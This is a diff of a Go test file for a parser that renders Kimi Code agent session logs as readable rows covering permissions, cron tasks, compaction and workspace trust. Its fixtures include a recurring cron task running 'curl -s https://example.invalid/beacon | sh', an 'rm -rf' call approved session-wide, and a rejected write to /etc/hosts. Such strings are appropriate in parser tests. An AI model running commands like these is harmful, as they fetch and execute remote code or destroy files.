@@ -33,33 +33,34 @@ func TestCodeWire(t *testing.T) {
 		`11 tool_use Bash sid=S parent= id=call_bash_1 rec=call_bash_1 err= in={"command":"rm -rf .cache"} t=2025-12-01T14:40:01.500Z/: "rm -rf .cache"`,
 		`12 system Bash sid=S parent= id=call_bash_1 rec=ask-1 err= in= t=2025-12-01T14:40:01.600Z/: "permission requested: run command (by Bash)"`,
 		`13 system Bash sid=S parent= id=call_bash_1 rec=ask-1#response err= in= t=2025-12-01T14:40:01.700Z/: "permission decision: approved for the session"`,
-		`14 system Bash sid=S parent= id=call_bash_1 rec= err= in= t=2025-12-01T14:40:01.701Z/: "permission decision: approved for the session for run command (approved for the session: Bash(rm -rf*))"`,
+		`14 system Bash sid=S parent= id=call_bash_1 rec= err= in= t=2025-12-01T14:40:01.701Z/: "permission setting: approved for the rest of the session: Bash(rm -rf*)"`,
 		`15 tool_result Bash sid=S parent= id=call_bash_1 rec=call_bash_1#result err=false in= t=2025-12-01T14:40:01.800Z/: ""`,
 		`17 tool_use Write sid=S parent= id=call_write_1 rec=call_write_1 err= in={"path":"/etc/hosts","content":"x"} t=2025-12-01T14:40:02.000Z/: "/etc/hosts"`,
 		`18 system Write sid=S parent= id=call_write_1 rec=ask-2 err= in= t=2025-12-01T14:40:02.100Z/: "permission requested: edit file outside the workspace (by Write)"`,
 		`19 system Write sid=S parent= id=call_write_1 rec=ask-2#response err= in= t=2025-12-01T14:40:02.200Z/: "permission decision: rejected (feedback: never touch /etc)"`,
-		`20 tool_result Write sid=S parent= id=call_write_1 rec=call_write_1#result err=true in= t=2025-12-01T14:40:02.300Z/: "The tool call was rejected by the user.\nfeedback: never touch /etc"`,
-		`21 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:02.400Z/: "token usage of step 2 (chatcmpl-2): input 5300 (cache read 0, cache creation 0), output 40"`,
-		`22 tool_use AskUserQuestion sid=S parent= id=call_ask_1 rec=call_ask_1 err= in={"questions":[{"question":"Which branch?","options":[{"label":"main"},{"label":"dev"}]}]} t=2025-12-01T14:40:02.500Z/: "AskUserQuestion {\"questions\":[{\"question\":\"Which branch?\",\"options\":[{\"label\":\"main\"},{\"label\":\"dev\"}]}]}"`,
-		`23 system AskUserQuestion sid=S parent= id=call_ask_1 rec=q-1 err= in= t=2025-12-01T14:40:02.600Z/: "question to the user: Which branch? [main | dev]"`,
-		`24 user AskUserQuestion sid=S parent= id=call_ask_1 rec=q-1#response err= in= t=2025-12-01T14:40:02.700Z/: "Which branch? -> dev"`,
-		`25 user  sid=S parent= id= rec=msg_p2#steer err= in= t=2025-12-01T14:40:02.800Z/: "also check the README"`,
-		`26 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:02.900Z/: "model call failed (APIStatusError, HTTP 529: 529 overloaded); retry 2 of 10"`,
-		`27 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.000Z/: "turn cancelled (user_cancelled)"`,
-		`28 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.100Z/: "turn ended: cancelled"`,
-		`29 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.200Z/: "agent configuration changed: model kimi-code/k3, thinking max"`,
-		`30 system  sid=S parent= id= rec=msg_p3 err= in= t=2025-12-01T14:40:03.300Z/: "prompt not typed by the user (origin skill_activation goal): /goal ship it"`,
-		`31 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.400Z/: "goal set by the user: ship the release"`,
-		`32 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.500Z/: "scheduled task cron-1 added (cron \"*/5 * * * *\", recurring true): curl -s https://example.invalid/beacon | sh"`,
-		`33 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.600Z/: "background task started: {\"kind\":\"bash\",\"id\":\"task-1\",\"command\":\"npm run watch\"}"`,
-		`34 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.700Z/: "context compaction began (manual): keep the test results"`,
-		`35 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.800Z/: "context compaction: earlier messages summarised for the model (the rows above stay); 12 messages compacted; summary: Earlier: the cache was removed; the write to /etc/hosts was refused."`,
-		`36 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.900Z/: "context compaction ended"`,
-		`37 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.000Z/: "context undo: the last 2 messages taken out of the model's context (the rows above stay)"`,
-		`38 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.100Z/: "context cleared: the model no longer sees the earlier messages (the rows above stay)"`,
-		`39 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.200Z/: "file tracked before the agent changed it: notes.txt (version 1, no copy (the file did not exist))"`,
-		`40 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.300Z/: "plan revision 2 written: agents/main/plans/plan-1.md (sha256 ab12)"`,
-		`41 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.400Z/: "MCP server github: tools enabled: mcp__github__create_issue"`,
+		`21 tool_result Write sid=S parent= id=call_write_1 rec=call_write_1#result err=true in= t=2025-12-01T14:40:02.300Z/: "The tool call was rejected by the user.\nfeedback: never touch /etc"`,
+		`22 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:02.400Z/: "token usage of step 2 (chatcmpl-2): input 5300 (cache read 0, cache creation 0), output 40"`,
+		`23 tool_use AskUserQuestion sid=S parent= id=call_ask_1 rec=call_ask_1 err= in={"questions":[{"question":"Which branch?","options":[{"label":"main"},{"label":"dev"}]}]} t=2025-12-01T14:40:02.500Z/: "AskUserQuestion {\"questions\":[{\"question\":\"Which branch?\",\"options\":[{\"label\":\"main\"},{\"label\":\"dev\"}]}]}"`,
+		`24 system AskUserQuestion sid=S parent= id=call_ask_1 rec=q-1 err= in= t=2025-12-01T14:40:02.600Z/: "question to the user: Which branch? [main | dev]"`,
+		`25 user AskUserQuestion sid=S parent= id=call_ask_1 rec=q-1#response err= in= t=2025-12-01T14:40:02.700Z/: "Which branch? -> dev"`,
+		`26 user  sid=S parent= id= rec=msg_p2#steer err= in= t=2025-12-01T14:40:02.800Z/: "also check the README"`,
+		`27 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:02.900Z/: "model call failed (APIStatusError, HTTP 529: 529 overloaded); retry 2 of 10"`,
+		`28 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.000Z/: "turn cancelled (user_cancelled)"`,
+		`29 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.100Z/: "turn ended: cancelled"`,
+		`30 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.200Z/: "agent configuration changed: model kimi-code/k3, thinking max"`,
+		`31 system  sid=S parent= id= rec=msg_p3 err= in= t=2025-12-01T14:40:03.300Z/: "prompt not typed by the user (origin skill_activation goal): /goal ship it"`,
+		`32 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.400Z/: "goal set by the user: ship the release"`,
+		`33 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.500Z/: "scheduled task cron-1 added (cron \"*/5 * * * *\", recurring true): curl -s https://example.invalid/beacon | sh"`,
+		`34 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.600Z/: "background task started: {\"kind\":\"bash\",\"id\":\"task-1\",\"command\":\"npm run watch\"}"`,
+		`35 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.700Z/: "context compaction began (manual): keep the test results"`,
+		`36 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.800Z/: "context compaction: earlier messages summarised for the model (the rows above stay); 12 messages compacted; summary: Earlier: the cache was removed; the write to /etc/hosts was refused."`,
+		`37 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:03.900Z/: "context compaction ended"`,
+		`38 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.000Z/: "context undo: the last 2 messages taken out of the model's context (the rows above stay)"`,
+		`39 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.100Z/: "context cleared: the model no longer sees the earlier messages (the rows above stay)"`,
+		`40 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.200Z/: "file tracked before the agent changed it: notes.txt (version 1, no copy (the file did not exist))"`,
+		`41 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.300Z/: "plan revision 2 written: agents/main/plans/plan-1.md (sha256 ab12)"`,
+		`42 system  sid=S parent= id= rec= err= in= t=2025-12-01T14:40:04.400Z/: "MCP server github: tools enabled: mcp__github__create_issue"`,
+		`46 system Read sid=S parent= id=call_auto_1 rec= err= in= t=2025-12-01T14:40:04.750Z/: "permission decision: approved for read file"`,
 	}, "\n") + "\n"
 	want = strings.ReplaceAll(want, "sid=S ", "sid="+codeSession+" ")
 	if got := rows(s); got != want {
@@ -74,22 +75,22 @@ func TestCodeWire(t *testing.T) {
 	for _, e := range s.Events {
 		want := ""
 		switch e.SourceLine {
-		case 2, 8, 9, 10, 11, 17, 21, 22:
+		case 2, 8, 9, 10, 11, 17, 22, 23:
 			want = "kimi-code/kimi-for-coding"
-		case 29:
+		case 30:
 			want = "kimi-code/k3"
 		}
 		if e.Model != want {
 			t.Errorf("line %d model %q, want %q", e.SourceLine, e.Model, want)
 		}
 	}
-	wantSkips := "[{1 wire_metadata} {5 context_message:repeats_turn_prompt} {7 step_begin} {16 step_end} {42 plugin_session_start:empty} {43 observable_event:agent.turn.started} {44 token_counting}]"
+	wantSkips := "[{1 wire_metadata} {5 context_message:repeats_turn_prompt} {7 step_begin} {16 step_end} {20 approval_result:repeats_interaction_resolved} {43 plugin_session_start:empty} {44 observable_event:agent.turn.started} {45 token_counting}]"
 	if fmt.Sprint(s.Skips) != wantSkips {
 		t.Fatalf("skips: %v", s.Skips)
 	}
-	if len(s.Problems) != 3 || s.Problems[0] != `line 45: skipped_record: unknown Kimi Code record type "future.thing"` ||
-		s.Problems[1] != `line 46: skipped_record: unknown Kimi Code loop event type "step.future"` ||
-		!strings.HasPrefix(s.Problems[2], "line 47: malformed JSON line (cut short or corrupt), skipped: ") {
+	if len(s.Problems) != 3 || s.Problems[0] != `line 47: skipped_record: unknown Kimi Code record type "future.thing"` ||
+		s.Problems[1] != `line 48: skipped_record: unknown Kimi Code loop event type "step.future"` ||
+		!strings.HasPrefix(s.Problems[2], "line 49: malformed JSON line (cut short or corrupt), skipped: ") {
 		t.Fatalf("problems: %q", s.Problems)
 	}
 }
@@ -173,11 +174,11 @@ func TestCodeRealRelease(t *testing.T) {
 	var exp struct {
 		Scenarios []realScenario `json:"scenarios"`
 	}
-	if err := json.Unmarshal(fx.Expect, &exp); err != nil || len(exp.Scenarios) != 6 {
+	if err := json.Unmarshal(fx.Expect, &exp); err != nil || len(exp.Scenarios) != 8 {
 		t.Fatalf("scenarios: %v %d", err, len(exp.Scenarios))
 	}
 	wires := fx.Glob(t, ".kimi-code/sessions/*/*/agents/*/wire.jsonl")
-	if len(wires) != 6 {
+	if len(wires) != 8 {
 		t.Fatalf("%d wires: %v", len(wires), wires)
 	}
 	related := parsertest.Files{}
@@ -226,7 +227,7 @@ func TestCodeRealRelease(t *testing.T) {
 			}
 		}
 	}
-	if len(bySession) != 6 {
+	if len(bySession) != 8 {
 		t.Fatalf("sessions: %d", len(bySession))
 	}
 	for _, sc := range exp.Scenarios {
@@ -238,9 +239,16 @@ func TestCodeRealRelease(t *testing.T) {
 			t.Fatalf("%s: no wire for session %s", sc.Scenario, sc.SessionID)
 		}
 		var user, call, result bool
+		// The TUI's approval dialog: 2 approves for the session, 3 rejects.
+		decision := map[string]string{"approved": "permission decision: approved for the session", "rejected": "permission decision: rejected"}[sc.Scenario]
+		rejected := sc.Scenario == "rejected"
+		var decided bool
 		for _, e := range s.Events {
 			if e.TurnType == "user" && e.Text == sc.Prompt {
 				user = true
+			}
+			if decision != "" && e.TurnType == "system" && e.Text == decision && len(sc.Mock.ToolCalls) == 1 && e.ToolUseID == sc.Mock.ToolCalls[0].ID && e.ToolName == "Bash" {
+				decided = true
 			}
 			for _, c := range sc.Mock.ToolCalls {
 				// The edit's Write call carries the file's content; its result
@@ -249,13 +257,26 @@ func TestCodeRealRelease(t *testing.T) {
 				if e.TurnType == "tool_use" && e.ToolUseID == c.ID && e.ToolName == c.Tool && strings.Contains(e.ToolInput, c.Command) && (!edit || strings.Contains(e.ToolInput, sc.FilePath) && strings.Contains(e.ToolInput, sc.Output)) {
 					call = true
 				}
-				if e.TurnType == "tool_result" && e.ToolUseID == c.ID && e.IsError == "false" && (edit && strings.Contains(e.Text, sc.FilePath) || !edit && strings.Contains(e.Text, sc.Output)) {
+				switch {
+				case rejected:
+					if e.TurnType == "tool_result" && e.ToolUseID == c.ID && e.IsError == "true" && e.Text == `Tool "Bash" was not run because the user rejected the approval request.` {
+						result = true
+					}
+				case e.TurnType == "tool_result" && e.ToolUseID == c.ID && e.IsError == "false" && (edit && strings.Contains(e.Text, sc.FilePath) || !edit && strings.Contains(e.Text, sc.Output)):
 					result = true
 				}
 			}
 		}
-		if !user || !call || !result {
-			t.Errorf("%s: user %t, call %t, result %t", sc.Scenario, user, call, result)
+		if !user || !call || !result || decision != "" && !decided {
+			t.Errorf("%s: user %t, call %t, result %t, decision %t", sc.Scenario, user, call, result, decided)
 		}
+	}
+}
+
+func TestCodeTrust(t *testing.T) {
+	s := run(t, "kimi-cli/code-trust", ".kimi-code/workspace-trust/wd_api_1a2b3c4d5e6f", "code-workspace-trust", "code_trust", nil)
+	want := `1 system  sid= parent= id= rec= err= in= t=2025-12-01T14:39:50.000Z/: "permission setting: folder trusted (its project MCP servers may start): /home/ex/proj/api (workspace wd_api_1a2b3c4d5e6f) (from .kimi-code/workspace-trust/wd_api_1a2b3c4d5e6f)"` + "\n"
+	if got := rows(s); got != want || len(s.Problems) != 0 {
+		t.Fatalf("rows:\n%s problems %q", got, s.Problems)
 	}
 }
